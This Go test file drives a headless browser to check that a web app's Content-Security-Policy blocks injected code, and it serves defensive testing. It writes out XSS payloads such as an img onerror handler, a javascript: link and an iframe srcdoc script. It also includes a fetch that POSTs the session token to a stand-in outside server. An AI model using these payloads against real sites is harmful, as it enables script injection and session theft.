package browser

import (
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
)

// A text that a fault of the page took for code would run nothing, load nothing and tell nobody:
// the browser refuses it, by the Content-Security-Policy. Each try stands for such a fault, and
// works where the header is not there.
func TestInjectedCode(t *testing.T) {
	a := start(t, t.TempDir(), "anna")
	a.do("group", "create", "tea")
	x := open(chromium(t), t)
	x.visit(a.link())
	x.shows("tea")

	var mu sync.Mutex
	var told []string
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		told = append(told, r.URL.Path)
		mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		if strings.HasSuffix(r.URL.Path, ".js") {
			w.Header().Set("Content-Type", "text/javascript")
			_, _ = w.Write([]byte("__ran.push('a script from elsewhere')"))
		}
	}))
	t.Cleanup(elsewhere.Close)
	js[any](x, `window.__ran = [], window.__tried = 0, void 0`)
	tries := []struct{ what, try string }{
		{"markup", `document.querySelector('main').insertAdjacentHTML('beforeend', '<img src="x" onerror="__ran.push(\'markup\')">')`},
		{"a handler", `const i = document.createElement('img'); i.setAttribute('onerror', '__ran.push("a handler")'); i.src = 'data:,'; document.body.append(i)`},
		{"a script", `const s = document.createElement('script'); s.append('__ran.push("a script")'); document.body.append(s)`},
		{"a script from elsewhere", `const s = document.createElement('script'); s.src = 'ELSEWHERE/script.js'; document.body.append(s)`},
		{"a script of its data", `const s = document.createElement('script'); s.src = 'data:text/javascript,__ran.push("a script of its data")'; document.body.append(s)`},
		{"a link", `const l = document.createElement('a'); l.href = 'javascript:__ran.push("a link")'; document.body.append(l); l.click()`},
		{"a timer", `setTimeout('__ran.push("a timer")', 0)`},
		{"a frame", `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.__ran.push("a frame")<\/script>'; document.body.append(f)`},
		{"a picture", `const i = new Image; i.src = 'ELSEWHERE/picture'; document.body.append(i)`},
		{"a request", `await fetch('ELSEWHERE/request', {method: 'POST', body: sessionStorage.token || 'x'})`},
		{"a beacon", `if (!navigator.sendBeacon('ELSEWHERE/beacon', 'x')) throw 'refused'`},
		{"a style", `const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'ELSEWHERE/style'; document.head.append(l)`},
		{"a base", `const b = document.createElement('base'); b.href = 'ELSEWHERE/'; document.head.append(b); if (new URL('x', document.baseURI).href.startsWith('ELSEWHERE')) __ran.push('a base')`},
		{"a form", `const f = document.createElement('form'), e = document.createElement('iframe'); e.name = 'to'; f.target = 'to'; f.action = 'ELSEWHERE/form'; document.body.append(e, f); f.submit()`},
	}
	for _, c := range tries {
		try := strings.ReplaceAll(c.try, "ELSEWHERE", elsewhere.URL)
		js[any](x, `(async () => { try { `+try+` } catch {} __tried++ })().then(() => new Promise(f => setTimeout(f, 300)))`)
	}
	if ran := js[[]string](x, `__ran`); len(ran) != 0 {
		t.Errorf("these ran: %q", ran)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(told) != 0 {
		t.Errorf("these were loaded, or told, elsewhere: %q", told)
	}
	if n := js[int](x, `__tried`); n != len(tries) {
		t.Errorf("%d of %d were tried", n, len(tries))
	}
	if refused := js[[]string](x, `__broken`); len(refused) < len(tries)-1 { // no answer to a beacon that nobody sent
		t.Errorf("the browser refused %d of %d: %q", len(refused), len(tries), refused)
	}
}
